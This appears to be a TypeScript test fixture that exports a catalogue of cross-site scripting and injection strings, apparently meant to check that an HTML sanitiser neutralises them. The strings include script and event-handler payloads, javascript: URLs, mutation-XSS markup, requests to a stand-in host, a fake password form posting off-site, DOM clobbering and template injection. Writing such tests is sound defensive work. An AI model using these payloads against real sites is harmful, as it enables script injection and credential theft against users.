import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import process from 'node:process';

/** The folder of a collection that is no part of the project; `undefined` where CORPORA names none. */
export const { CORPORA: corpora } = process.env;

/** One of its JSON files. */
export function readCorpus<T>(name: string): T {
  if (corpora === undefined) throw new Error('CORPORA names no folder.');
  return JSON.parse(readFileSync(join(corpora, name), 'utf8')) as T;
}

/** What one of them would do if it could: call `canary`, ask another server for something, or ask a question of its own. */
const elsewhere = 'https://elsewhere.example';

/** One of each way we know to get from words to a program, to a request, or to a control. */
export const ownPayloads: readonly string[] = [
  // scripts, plain and hidden from a careless parser
  '<script>canary()</script>',
  `<script src="${elsewhere}/a.js"></script>`,
  '<ScRiPt\n>canary()</sCrIpT x>',
  '"><script>canary()</script>',
  '</textarea></title></style></script><script>canary()</script>',
  '<!--<img src="--><img src=x onerror=canary()>">',
  '<![CDATA[<img src=x onerror=canary()>]]>',
  '&lt;img src=x onerror=canary()&gt;',
  '&amp;lt;script&amp;gt;canary()&amp;lt;/script&amp;gt;',
  '\u0000<scr\u0000ipt>canary()</scr\u0000ipt>',
  '＜script＞canary()＜/script＞',
  // handlers
  '<img src=x onerror=canary()>',
  '<img src="/x" srcset="/y 2x" onload=canary() onerror=canary()>',
  '<svg onload=canary()><animate attributeName=href values=javascript:canary() /></svg>',
  '<details open ontoggle=canary()><summary>More</summary></details>',
  '<p tabindex=1 autofocus onfocus=canary() onmouseover=canary()>Hover</p>',
  '<video autoplay oncanplay=canary()><source onerror=canary() src=x></video>',
  '<div style="animation:a" onanimationstart=canary() class="button">x</div>',
  '" onmouseover="canary()" autofocus onfocus="canary()" x="',
  "' onfocus='canary()' autofocus tabindex='1",
  // addresses
  '<a href="javascript:canary()">a</a>',
  '<a href=" &#1;java&#10;script&colon;canary()">b</a>',
  '<a href="data:text/html,<script>canary()</script>">c</a>',
  '[d](javascript:canary())',
  '![e](https://elsewhere.example/e.png) <https://elsewhere.example/f>',
  'javascript:canary()//https://example.org',
  `${elsewhere}/g?<b>`,
  '//elsewhere.example/h',
  'https://careers.example.org@elsewhere.example/i',
  '<a href="java&Tab;script&colon;canary()">j</a><a href="\u0001\u001fJaVaScRiPt:canary()">k</a>',
  '<a href="VbScRiPt:canary()">l</a><a href="blob:https://elsewhere.example/1">m</a><a href="view-source:javascript:canary()">n</a>',
  `<a href="\\\\elsewhere.example\\x">o</a><img src="/\\elsewhere.example/y.png"><img src="/\t/elsewhere.example/z.png">`,
  '/\\elsewhere.example/aa',
  'https:elsewhere.example',
  'https://example.org%2f@elsewhere.example/',
  '<svg><a xlink:href="javascript:canary()"><set attributeName=onmouseover to=canary()></a></svg><math href=javascript:canary()>p</math>',
  `<a href="https://example.org" ping="${elsewhere}/ab" target=_top rel=opener download=x.exe>q</a><p attributionsrc="${elsewhere}/ac">`,
  '[r](java\\\nscript:canary()) [s](&#106;avascript:canary()) [t](&quot;onmouseover=canary()&quot;)\n\n[u]: <javascript:canary()>\n[u]',
  '[v](x "&quot; onmouseover=canary() x=&quot;") `<img src=x onerror=canary()>` ![a" onerror="canary()](x)',
  // markup that turns into other markup when it is parsed a second time
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=canary()>">',
  '<noscript><p title="</noscript><img src=x onerror=canary()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<template><img src=x onerror=canary()></template><div shadowrootmode=open><img src=x onerror=canary()></div>',
  '<math><annotation-xml encoding="text/html"><script>canary()</script><img src=x onerror=canary()></annotation-xml></math>',
  '<svg><desc><noscript><p title="</noscript><img src=x onerror=canary()>"></desc></svg>',
  '<noframes><script></noframes><img src=x onerror=canary()></noframes><p title="<script></noframes><img src=x onerror=canary()>">',
  '<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=canary()></select>',
  '<form id=x><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=canary() src>">',
  `${'<div>'.repeat(510)}<svg><style><a title="</style><img src=x onerror=canary()>">`,
  '<scr<script>ipt>canary()</scr</script>ipt><<img src=x onerror=canary()//',
  '<!--!><img src=x onerror=canary()>--><!--><img src=x onerror=canary()><!-- --!><img src=x onerror=canary()>',
  '&amp;amp;lt;img src=x onerror=canary()&amp;amp;gt; &#38;lt;svg onload=canary()&#38;gt;',
  '\uE000lt;img src=x onerror=canary()\uE000gt; %EE%80%80lt;script&gt;canary()',
  // elements of the page, in its own names and in ours
  '<page-widget>x</page-widget><p is="page-paragraph">x</p><page-widget><template shadowrootmode=open><script>canary()</script></template></page-widget>',
  // requests
  `<img src="${elsewhere}/j.png" alt="A picture"><picture><source srcset="${elsewhere}/k.png"></picture>`,
  `<link rel=stylesheet href="${elsewhere}/l.css"><style>@import "${elsewhere}/m.css"; * { color: red }</style>`,
  `<div style="background:url(${elsewhere}/n.png);position:fixed;inset:0">o</div>`,
  `<iframe src="${elsewhere}/p"></iframe><object data="${elsewhere}/q"></object><embed src="${elsewhere}/r">`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}/s"><base href="${elsewhere}/">`,
  `<audio src="${elsewhere}/t.mp3" autoplay></audio><video poster="${elsewhere}/u.png"></video>`,
  `<link rel=preconnect href="${elsewhere}"><link rel=modulepreload href="${elsewhere}/ad.js"><script type=speculationrules>{"prefetch":[{"urls":["${elsewhere}/ae"]}]}</script>`,
  `<svg><use href="${elsewhere}/af.svg#x"></use><image href="${elsewhere}/ag.png"></image><feImage href="${elsewhere}/ah.png"></svg>`,
  `<body background="${elsewhere}/ai.png"><td background="${elsewhere}/aj.png"><input type=image src="${elsewhere}/ak.png"><bgsound src="${elsewhere}/al">`,
  // questions of its own, and the looks of ours
  `<form action="${elsewhere}/v"><label for=f0>Password<input name=password type=password></label><button>Send</button></form>`,
  '<dialog open role=alertdialog aria-modal=true>Your session is over<input autofocus></dialog><p popover id=f0>z</p>',
  '<button formaction=javascript:canary()>Submit application</button><select name=f-email><option>a</select>',
  '<div class="error-summary" part="error-summary" role="alert" slot="footer" id="f0-error">You are refused</div>',
  '<a id=f0 name=submit></a><img name=getElementById><h2 id=__proto__>x</h2>',
  `<job-application src="${elsewhere}/w.json" action="${elsewhere}/x"></job-application>`,
  '<form><input name=attributes><input name=childNodes><input name=parentNode><input name=nodeName></form><a id=content-1-x href="#f0">x</a>',
  // templates and programs of other systems
  '${canary()}{{constructor.constructor("canary()")()}}<?lit$1?><!--?lit$2--><%= canary() %>',
  // writing that turns its readers around
  '\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u0000\u0007',
];
